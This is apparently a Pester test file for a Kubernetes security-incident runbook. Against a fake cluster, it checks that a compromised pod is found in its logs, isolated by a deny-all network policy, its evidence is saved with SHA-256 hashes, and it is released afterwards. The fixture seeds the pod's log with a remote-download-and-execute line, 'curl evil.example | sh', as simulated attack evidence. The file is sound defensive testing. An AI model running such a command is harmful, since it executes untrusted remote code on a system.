# Pester 5 scenario for the Kubernetes runbook's security incident: find the compromised pod in the logs, contain it
# (out of its service, behind a deny-all network policy), collect the evidence with verifiable hashes, and release
# it when the incident is closed, with kubectl (the independent client) reading every step back. Runs under real
# Pester 5.9.1 (tests/unit/VaultRunbook.Pester.Tests) against the fake Kubernetes API server (tests/peers/VaultRunbook.FakeKube).

Describe 'Kubernetes security incident runbook: contain, collect evidence, release' {
    BeforeAll {
        . ([System.IO.Path]::Combine($PSScriptRoot, '..', '..', 'examples', 'Import-VaultRunbook.ps1'))
        . ([System.IO.Path]::Combine($PSScriptRoot, 'Start-FakeKube.ps1')) -Name k8s-security -Namespace auth
        $null = $cluster.AddDeployment('auth', 'auth-api', 3, 'registry.example.com/auth-api:2.1.0', $null, $false)
        $null = $cluster.AddService('auth', 'auth-api', '', 80)
        $pods = @($cluster.List('Pod', 'auth') | ForEach-Object { $_['metadata']['name'].GetValue[string]() } | Sort-Object)
        $compromised = $pods[1]
        foreach ($pod in $pods) {
            $cluster.AddLogLines('auth', $pod, 'app', [string[]]@('GET /health 200', 'POST /login 200 user=ann'), $false, $null)
        }
        # The incident: one pod shows a burst of failed logins, then a shell; its previous instance crashed.
        $cluster.AddLogLines('auth', $compromised, 'app', [string[]]@('POST /login 401 authentication_failed user=admin', 'POST /login 401 authentication_failed user=root', 'exec /bin/sh -c "curl evil.example | sh"'), $false, $null)
        $cluster.AddLogLines('auth', $compromised, 'app', [string[]]@('panic: runtime error'), $true, $null)
        $evidence = Join-Path $work 'INC-2291'
        function Get-EndpointPod { @((Invoke-Kubectl get endpoints auth-api -n auth -o json | ConvertFrom-Json).subsets.addresses.targetRef.name | Where-Object { $_ } | Sort-Object) }
    }

    AfterAll {
        if ($cluster) { $cluster.Dispose() }
        if ($work) { Remove-Item -Recurse -Force $work -ErrorAction Ignore }
    }

    It 'finds the compromised pod in the logs (kubectl logs | grep authentication_failed)' {
        $hits = Get-K8sPodLog -Selector app=auth-api -Pattern authentication_failed
        $hits | Should -HaveCount 2
        ($hits | Select-Object -Unique Pod).Pod | Should -Be $compromised
        (Invoke-Kubectl logs $compromised -n auth --tail=3 | Select-String authentication_failed) | Should -HaveCount 2
    }

    It 'contains it: out of the service endpoints, behind a deny-all network policy' {
        Get-EndpointPod | Should -Contain $compromised
        $isolation = Get-K8sPodLog -Selector app=auth-api -Pattern authentication_failed | Select-Object -Unique Namespace, Pod | Set-K8sPodIsolation -Confirm:$false
        $isolation.Name | Should -Be $compromised
        $isolation.Services | Should -Be @('auth-api')
        $isolation.PolicyState | Should -Be 'Created'
        $isolation.Labels | Should -Contain 'app=auth-api'
        Get-EndpointPod | Should -Not -Contain $compromised
        # The ReplicaSet released the pod and started a replacement, so the service keeps its three endpoints.
        Get-EndpointPod | Should -HaveCount 3
        (Invoke-Kubectl get pod $compromised -n auth -o json | ConvertFrom-Json).metadata.ownerReferences | Should -BeNullOrEmpty
        (Invoke-Kubectl get pod $compromised -n auth -o jsonpath='{.metadata.labels.incident}') | Should -Be 'isolate'
        $policy = Invoke-Kubectl get networkpolicy vaultrunbook-incident-isolate -n auth -o json | ConvertFrom-Json
        $policy.spec.podSelector.matchLabels.incident | Should -Be 'isolate'
        $policy.spec.policyTypes | Should -Be @('Ingress', 'Egress')
    }

    It 'collects the evidence, whose manifest hashes match the files' {
        $saved = Save-K8sIncidentEvidence -Namespace auth -Name $compromised -Path $evidence
        $saved.Path | Should -Be $evidence
        $saved.Files | Should -Contain "pods/$compromised/logs/app.previous.log"
        (Get-FileHash -Algorithm SHA256 (Join-Path $evidence 'manifest.json')).Hash.ToLowerInvariant() | Should -Be $saved.Sha256
        $manifest = Get-Content -Raw (Join-Path $evidence 'manifest.json') | ConvertFrom-Json
        foreach ($file in $manifest.files) {
            (Get-FileHash -Algorithm SHA256 (Join-Path $evidence $file.path)).Hash.ToLowerInvariant() | Should -Be $file.sha256
        }
        Get-Content -Raw (Join-Path $evidence "pods/$compromised/logs/app.log") | Should -Match 'curl evil.example'
        Get-Content -Raw (Join-Path $evidence 'networkpolicies.json') | Should -Match 'vaultrunbook-incident-isolate'
    }

    It 'never overwrites an evidence folder' {
        { Save-K8sIncidentEvidence -Namespace auth -Name $compromised -Path $evidence -ErrorAction Stop } | Should -Throw -ErrorId 'VaultRunbook.K8s.EvidenceFolderExists*'
    }

    It 'releases the pod when the incident is closed, and removes the policy' {
        $undo = Set-K8sPodIsolation -Namespace auth -Name $compromised -Undo -Confirm:$false
        $undo.PolicyState | Should -Be 'Removed'
        Get-EndpointPod | Should -Be $pods
        (Invoke-Kubectl get networkpolicy -n auth -o json | ConvertFrom-Json).items | Should -HaveCount 0
        (Invoke-Kubectl get pod $compromised -n auth -o jsonpath='{.metadata.labels.app}') | Should -Be 'auth-api'
    }

    It 'leaves the timeline in the action journal' {
        (Get-VaultActionLog -Action K8sIsolate, K8sEvidence, K8sIsolateUndo).Action | Should -Be @('K8sIsolate', 'K8sEvidence', 'K8sEvidence', 'K8sIsolateUndo')
    }
}
